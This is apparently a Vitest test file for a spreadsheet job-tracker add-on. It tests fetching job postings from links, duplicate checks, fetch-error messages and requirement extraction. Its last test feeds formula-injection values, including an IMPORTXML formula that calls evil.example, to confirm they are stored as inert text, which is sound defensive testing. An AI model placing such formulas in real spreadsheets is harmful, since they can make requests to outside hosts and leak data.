/** Add a job from its link, run by the built bundle over the counting fakes (UrlFetchApp serves fixture pages). */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadBundle, type LoadedAddon } from '../support/load-bundle.js';
import { seedTracker } from '../fakes/apps-script/seed-tracker.js';
import { APPLICATIONS } from '../../shared/schema/tracker-schema.js';

const NOW = new Date('2026-12-01T09:00:00Z');
const LINK = 'https://boards.greenhouse.io/acmerobotics/jobs/4001';
const page = (name: string) => readFileSync(new URL(`../shared/jobs/fixtures/${name}.html`, import.meta.url), 'utf8');

function tracker(): LoadedAddon {
  const loaded = loadBundle({ now: NOW });
  loaded.addon.setUpTracker();
  seedTracker(loaded.spreadsheet, { applications: 3, interviews: 0, now: NOW });
  loaded.log.reset();
  return loaded;
}

const applicationRows = (loaded: LoadedAddon) => loaded.addon.loadTracker().applications;
const cellOf = (loaded: LoadedAddon, row: number, key: string) =>
  loaded.spreadsheet.getSheetByName(APPLICATIONS.name)!.dump().cells[row - 1]![APPLICATIONS.columns.findIndex((c) => c.key === key)]!.value;

describe('adding a job from its link', () => {
  it('previews what the posting holds and writes nothing until confirmed', () => {
    const loaded = tracker();
    loaded.urlFetch.serve(LINK, { body: page('greenhouse'), headers: { 'Content-Type': 'text/html; charset=utf-8' } });
    const preview = loaded.addon.previewJobFromLink({ url: LINK });
    expect(preview).toMatchObject({
      kind: 'found',
      posting: { company: 'Acme Robotics', role: 'Senior Backend Engineer', location: 'San Francisco, CA, US', link: LINK },
      requirements: [
        { requirement: '5+ years of Go or Java', level: 'must' },
        { requirement: 'Experience with PostgreSQL', level: 'must' },
        { requirement: 'Kubernetes', level: 'nice' },
      ],
      duplicate: null,
    });
    expect(loaded.log.writes()).toBe(0);
  });

  it('adds the confirmed job with its description and requirements in two writes, and a new round starts from that checklist', () => {
    const loaded = tracker();
    loaded.urlFetch.serve(LINK, { body: page('greenhouse'), headers: { 'Content-Type': 'text/html' } });
    const preview = loaded.addon.previewJobFromLink({ url: LINK });
    if (preview.kind !== 'found') throw new Error('no posting');
    loaded.log.reset();
    const { posting } = preview;
    const added = loaded.addon.addJob({ ...posting, jobDescription: posting.description, salary: preview.salary });
    expect(added).toMatchObject({ kind: 'added', company: 'Acme Robotics', requirements: 3 });
    expect(loaded.log.writes()).toBe(2);
    expect(cellOf(loaded, 5, 'requirements')).toBe('Requirements:\n[ ] 5+ years of Go or Java\n[ ] Experience with PostgreSQL\n[ ] (nice to have) Kubernetes');
    expect(cellOf(loaded, 5, 'stage')).toBe('Wishlist');
    if (added.kind !== 'added') throw new Error('not added');
    const round = loaded.addon.saveInterview({
      company: 'Acme Robotics',
      role: 'Senior Backend Engineer',
      round: 'Technical',
      start: '2026-12-08 10:00',
      end: '2026-12-08 11:00',
      applicationId: added.applicationId,
    });
    if (round.kind !== 'saved') throw new Error(JSON.stringify(round));
    const prep = loaded.addon.loadPrep({ interviewId: round.record.eventId });
    expect(prep.prep.requirements.map((r) => r.requirement)).toEqual(['5+ years of Go or Java', 'Experience with PostgreSQL', '(nice to have) Kubernetes']);
    expect(prep.progress).toEqual({ done: 0, total: 3 });

    // Evidence written for this round is where the next round of the application starts.
    loaded.addon.savePrep({
      interviewId: round.record.eventId,
      prep: { ...prep.prep, requirements: prep.prep.requirements.map((r, i) => ({ ...r, done: true, evidence: i === 0 ? '6 years of Go at Initech' : '' })) },
    });
    const next = loaded.addon.saveInterview({
      company: 'Acme Robotics',
      role: 'Senior Backend Engineer',
      round: 'Final',
      start: '2026-12-15 10:00',
      end: '2026-12-15 11:00',
      applicationId: added.applicationId,
    });
    if (next.kind !== 'saved') throw new Error(JSON.stringify(next));
    expect(loaded.addon.loadPrep({ interviewId: next.record.eventId }).prep.requirements[0]).toEqual({
      requirement: '5+ years of Go or Java',
      evidence: '6 years of Go at Initech',
      done: false,
    });
  });

  it('recognises the same link or the same company and role, and adds anyway only when asked', () => {
    const loaded = tracker();
    const job = { company: 'Acme', role: 'Backend Engineer', link: '', jobDescription: '' };
    expect(loaded.addon.addJob(job)).toMatchObject({ kind: 'duplicate', duplicate: { company: 'Acme', role: 'Backend Engineer', row: 2 } });
    expect(loaded.log.writes()).toBe(0);
    expect(loaded.addon.addJob({ ...job, addAnyway: true })).toMatchObject({ kind: 'added' });
    expect(applicationRows(loaded)).toHaveLength(4);
  });

  it.each([
    [
      'a site off the allow-list',
      'https://www.linkedin.com/jobs/view/1',
      undefined,
      'The add-on can’t fetch pages from www.linkedin.com: Google lets a published add-on fetch only the sites it lists. Paste the job description instead.',
    ],
    ['a page that refuses to be read', LINK, { status: 403 }, 'That site refuses to be read by other programs. Paste the description instead.'],
    ['a page taken down', LINK, { status: 404 }, 'That page could not be found (it may have been taken down). Paste the job description instead.'],
    ['a site in trouble', LINK, { status: 503 }, 'That site is not answering properly right now. Try again later, or paste the description instead.'],
    [
      'a PDF',
      LINK,
      { body: '%PDF-1.7', headers: { 'Content-Type': 'application/pdf' } },
      'That link is not a web page (it is application/pdf). Paste the description instead.',
    ],
    [
      'a page without a posting',
      LINK,
      { body: page('no-posting'), headers: { 'Content-Type': 'text/html' } },
      'No job posting was found on this page. Paste the description instead.',
    ],
    ['an address nobody serves', 'https://jobs.lever.co/nobody/1', undefined, 'The page could not be reached. Paste the description instead.'],
  ])('asks for the description on %s, writing nothing', (_name, url, served, message) => {
    const loaded = tracker();
    if (served) loaded.urlFetch.serve(url, served);
    expect(loaded.addon.previewJobFromLink({ url })).toEqual({ kind: 'paste', message });
    expect(message).not.toMatch(/HTTP|\b\d{3}\b/);
    expect(loaded.log.writes()).toBe(0);
    if (url.includes('linkedin')) expect(loaded.urlFetch.requests).toEqual([]);
  });

  it('reads a 10 MB page only to its first 2 MB and still finds the posting at its top', () => {
    const loaded = tracker();
    const huge = page('greenhouse')
      .replace('</body></html>', '')
      .padEnd(10 * 1024 * 1024, ' <p>filler</p>');
    loaded.urlFetch.serve(LINK, { body: huge, headers: { 'Content-Type': 'text/html' } });
    const started = performance.now();
    expect(loaded.addon.previewJobFromLink({ url: LINK })).toMatchObject({ kind: 'found', posting: { role: 'Senior Backend Engineer' } });
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('reads a pasted description with the same extraction', () => {
    const loaded = tracker();
    const preview = loaded.addon.previewJobFromText({ text: 'We build robots.\n\nRequisitos\n- Figma\n- SQL\n\nDeseable\n- dbt' });
    expect(preview).toMatchObject({
      kind: 'found',
      posting: { source: 'pasted', description: 'We build robots.\n\nRequisitos\n- Figma\n- SQL\n\nDeseable\n- dbt' },
      requirements: [
        { requirement: 'Figma', level: 'must' },
        { requirement: 'SQL', level: 'must' },
        { requirement: 'dbt', level: 'nice' },
      ],
    });
  });

  it('stores hostile text as inert literal text', () => {
    const loaded = tracker();
    loaded.addon.addJob({ company: '+1 Evil', role: '=IMPORTXML("https://evil.example","//a")', jobDescription: '@SUM(A1)', addAnyway: true });
    const cells = loaded.spreadsheet.getSheetByName(APPLICATIONS.name)!.dump().cells[4]!;
    expect(cells.map((cell) => cell.formula).filter(Boolean)).toEqual([]);
    expect(cellOf(loaded, 5, 'role')).toBe('=IMPORTXML("https://evil.example","//a")');
    expect(cellOf(loaded, 5, 'company')).toBe('+1 Evil');
  });
});
